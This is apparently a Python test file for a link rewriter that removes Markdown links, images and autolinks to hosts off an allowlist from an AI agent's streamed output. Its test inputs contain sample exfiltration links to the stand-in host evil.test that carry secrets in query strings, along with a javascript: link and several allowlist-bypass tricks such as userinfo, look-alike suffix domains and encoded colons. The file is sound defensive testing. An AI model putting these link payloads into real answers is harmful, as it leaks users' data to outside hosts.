"""Links in an answer's text to hosts off the list, reduced to their text at any split."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tollgate.governance.agents.link_hosts import LinkHosts, read_url
from tollgate.governance.agents.links import MAX_HELD, LinkRewriter

HOSTS = LinkHosts(["*.example.com", "docs.python.org"])


def rewrite(text: str) -> str:
    return LinkRewriter(HOSTS).rewrite(text)


def streamed(text: str, cuts: list[int]) -> str:
    return streamed_counted(text, cuts)[0]


def streamed_counted(text: str, cuts: list[int]) -> tuple[str, int]:
    """The text fed in pieces (a copy of the rewriter taken, and the copy carried on, at each cut),
    and how many links were reduced."""
    rewriter = LinkRewriter(HOSTS)
    points = sorted({min(max(c, 0), len(text)) for c in cuts})
    pieces = [text[a:b] for a, b in zip([0, *points], [*points, len(text)], strict=True)]
    out = []
    for piece in pieces:
        out.append(rewriter.feed(piece))
        rewriter = rewriter.copy()
    out.append(rewriter.end())
    return "".join(out), rewriter.redacted


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("see ![chart](https://evil.test/p.png?d=IBAN123) now", "see chart now"),
        ("[home](https://evil.test/)", "home"),
        ('[doc](https://evil.test/x "a title") z', "doc z"),
        ("[doc](<https://evil.test/a b>)", "doc"),
        ("[ok](https://api.example.com/x?y=1)", "[ok](https://api.example.com/x?y=1)"),
        ("[ok](HTTPS://Docs.Python.org./3/)", "[ok](HTTPS://Docs.Python.org./3/)"),
        ("[rel](docs/x.md) [top](#top)", "[rel](docs/x.md) [top](#top)"),
        ("[![badge](https://evil.test/b.svg?u=1)](https://api.example.com)", "[badge](https://api.example.com)"),
        ("[a ![i](https://evil.test/i?x)](https://evil.test/)", "a i"),
        # what a renderer and a browser read, not what is written
        ("![x](https&#58;//evil.test/?d=1)", "x"),
        ("![x](https\\://evil.test/?d=1)", "x"),
        ("![x](//evil.test/?d=1)", "x"),
        ("![x](/\\evil.test/?d=1)", "x"),
        ("![x](https://api.example.com@evil.test/?d=1)", "x"),
        ("![x](https://api.example.com.evil.test/?d=1)", "x"),
        ("[m](mailto:a@evil.test?body=secret) [j](javascript:alert(1))", "m j"),
        # reference definitions: the URL is in the definition
        ("![x][r]\n\n[r]: https://evil.test/p?d=1\n", "![x][r]\n\nr\n"),
        ("[r]:\n  https://evil.test/p?d=1 'title'", "r 'title'"),
        ("[r]: https://api.example.com/p\n", "[r]: https://api.example.com/p\n"),
        # autolinks: reduced to their host when they carry data
        ("<https://evil.test/?q=secret> and <https://evil.test>", "evil.test and <https://evil.test>"),
        ("<https://user:pw@evil.test>", "evil.test"),
        ("<https://api.example.com/x?q=1>", "<https://api.example.com/x?q=1>"),
        ("<mailto:a@evil.test?body=secret> <mailto:a@evil.test>", "a@evil.test <mailto:a@evil.test>"),
        ("<ftp://evil.test/x?d=1> <https:evil.test/x?d=1>", "evil.test evil.test"),
        ("std::vector<std::string> v; <urn:isbn:0451450523>", "std::vector<std::string> v; <urn:isbn:0451450523>"),
        # a `](` whose `[` went as text is still judged
        ("[a]b](https://evil.test/?d=1)", "[a]b]"),
        ("[unfinished](https://evil.test/?d=1", "[unfinished]"),
        # not links
        ("a[0] = b[1]; if x<y and y>z: [p] (q)", "a[0] = b[1]; if x<y and y>z: [p] (q)"),
        ("[a\n\n](https://evil.test/)", "[a\n\n]"),
    ],
)
def test_links_off_the_list_are_reduced_to_their_text(text: str, expected: str) -> None:
    assert rewrite(text) == expected
    assert streamed(text, list(range(len(text)))) == expected


def test_only_an_unfinished_construct_is_held() -> None:
    rewriter = LinkRewriter(HOSTS)
    assert rewriter.feed("plain text, ") == "plain text, "
    assert rewriter.feed("then ![chart](https://evil.te") == "then "
    assert rewriter.feed("st/p.png?d=1) and") == "chart and"
    assert rewriter.feed(" x!") == " x"
    assert rewriter.feed("!") == "!"
    assert rewriter.end() == "!"


def test_a_destination_longer_than_the_bound_to_a_host_off_the_list_is_dropped_as_it_streams() -> None:
    rewriter = LinkRewriter(HOSTS)
    head = "![chart](https://evil.test/p.png?d="
    out = rewriter.feed(head + "A" * MAX_HELD)
    assert out == "chart"
    assert rewriter.feed("B" * 10_000) == ""
    assert rewriter.feed("C) after") == " after"
    assert rewriter.end() == ""


def test_a_destination_longer_than_the_bound_passes_when_its_host_is_allowed() -> None:
    text = "[x](https://api.example.com/" + "a" * (2 * MAX_HELD) + ") after"
    assert rewrite(text) == text


def test_a_link_text_longer_than_the_bound_is_released_and_its_destination_still_judged() -> None:
    text = "[" + "t" * MAX_HELD + "](https://evil.test/?d=1) after"
    assert rewrite(text) == "[" + "t" * MAX_HELD + "] after"


def test_an_autolink_longer_than_the_bound_keeps_only_its_host() -> None:
    text = "<https://evil.test/?d=" + "A" * MAX_HELD + "> after"
    assert rewrite(text) == "evil.test after"


def test_no_url_is_read_as_allowed_when_it_is_not() -> None:
    assert read_url("https://api.example.com:x/").host is None
    assert read_url("https://[::1]/").host is None
    assert not HOSTS.allows("https://ápi.example.com/")
    assert HOSTS.allows("ht\ntps://api.example.com/")


# Text made of the characters links are made of, with hosts on and off the list.
_PIECES = st.sampled_from(
    ["[", "]", "(", ")", "!", "<", ">", ":", " ", "\n", "\n\n", "a", "?d=1", "/", '"t"', "&#58;", "\\",
     "https://evil.test", "https://api.example.com", "mailto:a@b.test", "#x", "](", "![", "<https:"]
)  # fmt: skip
_TEXTS = st.lists(_PIECES, max_size=40).map("".join)


@settings(max_examples=400, deadline=None)
@given(_TEXTS, st.lists(st.integers(0, 400), max_size=8))
def test_the_output_is_the_same_however_the_text_is_split(text: str, cuts: list[int]) -> None:
    assert streamed(text, cuts) == rewrite(text)


@pytest.mark.parametrize(
    ("text", "count"),
    [
        ("see ![chart](https://evil.test/p.png?d=1) now", 1),
        ("[ok](https://api.example.com/x) [rel](docs/x.md) plain", 0),
        ("[a ![i](https://evil.test/i?x)](https://evil.test/)", 2),
        ("[![badge](https://evil.test/b.svg?u=1)](https://api.example.com)", 1),
        ("<https://evil.test/?q=1> <https://evil.test> <mailto:a@evil.test?body=1>", 2),
        ("[r]: https://evil.test/p?d=1\n[a]b](https://evil.test/?d=1)", 2),
        ("![x](https://evil.test/?d=" + "A" * MAX_HELD + ") after", 1),
    ],
)
def test_each_link_reduced_is_counted(text: str, count: int) -> None:
    rewriter = LinkRewriter(HOSTS)
    rewriter.rewrite(text)
    assert rewriter.redacted == count
    assert streamed_counted(text, list(range(0, len(text), 7))) == (rewriter.rewrite(text), count)


@settings(max_examples=300, deadline=None)
@given(_TEXTS, st.lists(st.integers(0, 400), max_size=8))
def test_the_count_is_the_same_however_the_text_is_split(text: str, cuts: list[int]) -> None:
    whole = LinkRewriter(HOSTS)
    assert streamed_counted(text, cuts) == (whole.rewrite(text), whole.redacted)


@settings(max_examples=200, deadline=None)
@given(st.lists(_PIECES, min_size=1, max_size=20).map("".join), st.lists(st.integers(0, 5000), max_size=6))
def test_the_bound_decides_the_same_however_the_text_is_split(tail: str, cuts: list[int]) -> None:
    text = "[x](https://evil.test/?d=" + "A" * (MAX_HELD - 30) + tail
    assert streamed(text, cuts) == rewrite(text)


_WORDS = st.text(st.characters(blacklist_characters="[]<", blacklist_categories=["Cs"]), max_size=30)
_ALLOWED = st.builds(
    lambda bang, text, host, path: f"{bang}[{text}](https://{host}/{path})",
    st.sampled_from(["", "!"]),
    st.text(st.characters(blacklist_characters="[]\n", blacklist_categories=["Cs"]), max_size=12),
    st.sampled_from(["api.example.com", "docs.python.org", "x.example.com"]),
    st.text("abc/?=&%#-_.", max_size=20),
) | st.builds(lambda path: f"<https://api.example.com/{path}>", st.text("abc/?=&%#", max_size=20))


@settings(max_examples=300, deadline=None)
@given(st.lists(_WORDS | _ALLOWED, max_size=10).map("".join), st.lists(st.integers(0, 300), max_size=8))
def test_plain_text_and_allowed_links_pass_byte_for_byte(text: str, cuts: list[int]) -> None:
    assert streamed(text, cuts) == text


@settings(max_examples=300, deadline=None)
@given(
    st.sampled_from(["", "!"]),
    st.text("abcdef ", min_size=1, max_size=10),
    st.sampled_from(
        ["https://evil.test/p?d=", "//evil.test/", "<https://evil.test/x?", "https://a.example.com.evil.test/"]
    ),
    st.lists(st.integers(0, 100), max_size=6),
)
def test_data_sent_off_the_list_never_leaves(bang: str, text: str, url: str, cuts: list[int]) -> None:
    secret = "SECRETVALUE42"
    link = f"<{url[1:]}{secret}>" if url.startswith("<") else f"{bang}[{text}]({url}{secret})"
    assert secret not in streamed(f"before {link} after", cuts)


@pytest.mark.parametrize(
    "text",
    [
        "[" * 40 + "a" + "]" * 40 + "(https://evil.test/?d=SECRET) after",
        "![x](https://evil.test/?" + "(" * 40 + "SECRET" + ")" * 40 + ") after",
        "[r]: https://evil.test/?" + "(" * 40 + "SECRET after",
    ],
)
def test_nesting_deeper_than_read_is_decided_failing_closed(text: str) -> None:
    out = rewrite(text)
    assert "SECRET" not in out
    assert out.endswith("after")
    assert streamed(text, list(range(0, len(text), 3))) == out
